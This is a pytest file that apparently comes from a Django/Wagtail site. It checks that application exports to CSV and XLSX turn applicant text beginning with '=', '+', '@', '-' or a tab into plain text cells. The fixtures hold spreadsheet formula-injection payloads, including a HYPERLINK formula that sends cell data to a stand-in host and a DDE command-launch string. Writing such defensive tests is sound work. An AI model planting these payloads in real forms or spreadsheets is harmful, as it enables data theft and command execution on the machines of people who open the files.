"""Attack 6: an applicant's text starting with "=" ran as a formula in the manager's
spreadsheet. CSV cells that spreadsheets would evaluate are written as text, inline and on the
worker; XLSX cells are text cells."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.test import override_settings

from sc_wagtail.forms.exports import build_export
from sc_wagtail.forms.models import Application, ApplicationExport
from tests.conftest import shared_data
from tests.forms.conftest import build_fund
from tests.responses import body, text

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fund")]
fund = shared_data(lambda: build_fund(codes=("fr", "ar")))
URL = "/admin/fund/applications/"
HOSTILE = {
    "contact_name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "project_title": "+cmd|' /C calc'!A0",
    "phone": "@SUM(1+1)",
    "contact_role": "-2+3",
    "city_name": "\tTab city",
}


@pytest.fixture
def hostile():
    application = Application.objects.get(language="fr")
    Application.objects.filter(pk=application.pk).update(**HOSTILE)
    return application


@pytest.fixture
def manager(client):
    client.force_login(get_user_model().objects.get(username="fund-manager"))
    return client


def rows(text):
    return list(csv.reader(io.StringIO(text)))


def assert_text_cells(table):
    cells = {cell for row in table for cell in row}
    for value in HOSTILE.values():
        assert value not in cells
        assert "'" + value in cells


def test_the_inline_csv_export_writes_formulas_as_text(manager, hostile):
    response = manager.get(URL, {"export": "csv"})
    assert_text_cells(rows(text(response)))


def test_the_worker_built_csv_export_writes_formulas_as_text(manager, hostile):
    user = get_user_model().objects.get(username="fund-manager")
    export = ApplicationExport.objects.create(user=user, format="csv", query="")
    with override_settings(SC_WAGTAIL={"EXPORT_INLINE_ROWS": 0}):
        build_export(export.pk)
    export.refresh_from_db()
    assert_text_cells(rows(export.file.open("rb").read().decode()))


def test_xlsx_cells_stay_text(manager, hostile):
    response = manager.get(URL, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    for value in HOSTILE.values():
        assert cells.get(value) == "s"
